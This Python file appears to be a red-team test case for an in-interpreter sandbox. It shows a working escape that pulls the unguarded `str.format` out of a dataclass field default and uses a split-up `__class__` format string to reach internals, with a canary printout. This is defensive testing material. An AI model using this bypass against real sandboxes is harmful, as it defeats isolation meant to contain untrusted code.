# mypy: ignore-errors
# Technique: a dataclass field named `format` on a `str` subclass: dataclasses reads the
# class attribute of that name as the field's default, handing out the unguarded
# `str.format` through `dataclasses.fields()`. Found in the red-team pass of the
# in-interpreter layer.
import dataclasses


@dataclasses.dataclass
class Text(str):
    format: int


def attack(secret_path, canary_path):
    fmt = dataclasses.fields(Text)[0].default
    text = fmt("{0." + "_" * 2 + "class" + "_" * 2 + "}", 1)
    if "int" in text:
        print("SANDBOX-" + "ESCAPED")
    return text
